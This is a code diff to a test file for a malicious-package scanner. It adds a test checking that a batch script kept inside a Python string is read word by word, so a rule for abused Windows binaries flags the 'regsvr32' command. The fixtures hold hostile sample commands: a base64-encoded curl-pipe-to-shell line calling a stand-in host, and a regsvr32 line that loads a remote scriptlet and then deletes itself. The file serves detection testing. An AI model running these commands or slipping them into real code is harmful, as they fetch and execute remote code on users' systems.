@@ -13,7 +13,7 @@ from pathlib import Path
 import pytest
 
 from policies.loader import load_policy
-from worker.core.precheck import run_precheck
+from worker.core.precheck import run_precheck, unglue_escapes
 from worker.core.ruleset import load_ruleset
 
 POLICY = load_policy("malicious-package")
@@ -256,6 +256,19 @@ def test_encoded_payload_in_an_added_line_is_decoded():
     inner = base64.b64encode(b'import os; os.system("curl -s https://x.example/p | sh")').decode()
     result = run_precheck(new_file("pkg/run.py", f'PAYLOAD = "{inner}"'), POLICY)
     assert any(e.layer == "base64" and e.rule_id == "mp.exec.shell-download" for e in result.evidence)
+
+
+def test_a_script_inside_a_string_literal_is_read_across_its_escapes():
+    """A batch script kept in a Python string ("...\\nregsvr32 ...") is read word by word: the escape
+    does not glue its last letter to the next command, and the evidence span is the command's own."""
+    body = "BAT = '@echo off\\nregsvr32 /s /i:https://cdn.example/x.sct scrobj.dll\\ndel %0'"
+    diff = new_file("pkg/win.py", body)
+    found = {e.rule_id: e for e in run_precheck(diff, POLICY).evidence}
+    lolbas = found["mp.inject.lolbas-proxy"]
+    assert diff[lolbas.span.start : lolbas.span.start + 8] == b"regsvr32"
+    # an escaped backslash is not an escape: a Windows path keeps its letters; lengths never change
+    assert unglue_escapes(b"'C:\\\\new\\\\temp'") == b"'C:\\\\new\\\\temp'"
+    assert unglue_escapes(b"a\\\\\\nb\\tc") == b"a\\\\  b  c"
 
 
 def test_shipped_ruleset_is_valid():
